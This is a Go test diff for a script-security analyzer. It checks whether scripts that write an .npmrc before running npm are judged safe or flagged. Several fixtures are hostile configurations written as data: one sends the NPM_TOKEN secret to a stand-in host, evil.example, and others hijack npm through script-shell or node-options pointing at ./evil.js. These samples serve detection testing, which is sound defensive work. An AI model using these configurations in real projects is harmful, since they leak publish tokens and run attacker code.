@@ -112,3 +112,45 @@ func TestPsqlConnectionStringAndVariables(t *testing.T) {
 		})
 	}
 }
+
+// A configuration the script writes whole with a literal text is judged by
+// its keys: an .npmrc of registries and tokens keeps a later npm
+// understood; a key that names a program (or any key not listed), an
+// append, or a text built at run time keeps write, then run.
+func TestWrittenNpmrcJudgedByKeys(t *testing.T) {
+	cases := []struct {
+		script     string
+		understood bool
+		want       string // a line of the analysis contains this
+		noSecret   bool   // no secret mark
+	}{
+		{script: "printf '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish --access public", understood: true, want: "registry.npmjs.org: npm sends secret NPM_TOKEN", noSecret: true},
+		{script: "echo '@acme:registry=https://npm.pkg.github.com' > .npmrc\nnpm ci", understood: true, want: "keys that run nothing", noSecret: true},
+		{script: "cat > .npmrc <<'EOF'\n; CI settings\nregistry=https://registry.npmjs.org/\nsave-exact=true\nfund=false\nEOF\nnpm install", understood: true, want: "keys that run nothing", noSecret: true},
+		{script: "printf 'registry=https://evil.example/\\n//evil.example/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish", understood: true, want: "sends secret NPM_TOKEN (npm) to evil.example"},
+		{script: "printf 'script-shell=./x.sh\\n' > .npmrc; npm test", want: "write, then run"},
+		{script: "printf 'node-options=--require ./evil.js\\n' > .npmrc; npm test", want: "write, then run"},
+		{script: "printf 'registry=https://r.example/\\n' > .npmrc; echo script-shell=./x >> .npmrc; npm test", want: "write, then run"},
+		{script: "printf 'registry=https://r.example/\\n' > .npmrc\necho script-shell=./x >> .npmrc\nnpm test", want: "write, then run"},
+		{script: "printf \"registry=$R\\n\" > .npmrc; npm test", want: "write, then run"},
+		{script: "printf 'registry=%s\\n' x > .npmrc; npm test", want: "write, then run"},
+		{script: "printf 'registry=x\\n' > package.json; npm test", want: "write, then run"},
+	}
+	for _, c := range cases {
+		t.Run(c.script, func(t *testing.T) {
+			a := testAnalyzer.Analyze(Request{Argv: []string{"sh", "-c", c.script}, Executable: "/bin/sh", Dir: "/work/app",
+				Secrets: []Secret{{Name: "npm", Env: "NPM_TOKEN"}}})
+			if a.Understood != c.understood {
+				t.Fatalf("understood = %v, want %v\n%s", a.Understood, c.understood, dump(a))
+			}
+			if !mentions(a, c.want) {
+				t.Fatalf("no line mentions %q\n%s", c.want, dump(a))
+			}
+			for _, m := range a.Marks {
+				if c.noSecret && m.Severity == SeveritySecret {
+					t.Fatalf("secret mark %q\n%s", m.Text, dump(a))
+				}
+			}
+		})
+	}
+}
